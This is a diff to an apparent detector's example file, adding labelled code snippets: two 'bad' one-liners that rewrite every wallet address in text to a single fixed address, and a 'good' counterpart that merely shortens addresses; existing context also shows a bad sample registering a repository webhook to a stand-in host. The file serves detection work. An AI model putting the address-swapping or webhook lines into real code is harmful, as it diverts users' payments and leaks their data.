@@ -3,6 +3,22 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "const shown = text.replace(/0x[0-9a-f]{40}/gi, '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c');",
+      why: 'every address that somebody pays to becomes this one',
+      attributes: {
+        service: 'swapped-wallet',
+        destination: '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c',
+      },
+    },
+    {
+      code: "const own = '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c'; body = body.replaceAll(known, () => own);",
+      why: 'the same by a function',
+      attributes: {
+        service: 'swapped-wallet',
+        destination: '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c',
+      },
+    },
+    {
       code: "await octokit.rest.repos.createWebhook({ owner, repo, config: { url: 'https://events.archive.invalid/in' }, events: ['push'] });",
       why: 'a web hook in a repository of the user',
       attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
@@ -170,6 +186,10 @@ export const examples: DetectorExamples = {
     },
   ],
   good: [
+    {
+      code: "const known = { weth: '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c' }; use(text.replace(/0x[0-9a-f]{40}/gi, '0x…'), known.weth);",
+      why: 'a contract, and addresses that are shortened',
+    },
     {
       code: "app.post('/hooks/github', receive); client.webhooks.list(); octokit.rest.repos.createWebhook({ owner, repo, config: { url: settings.url } });",
       why: 'hooks that somebody else decides on',
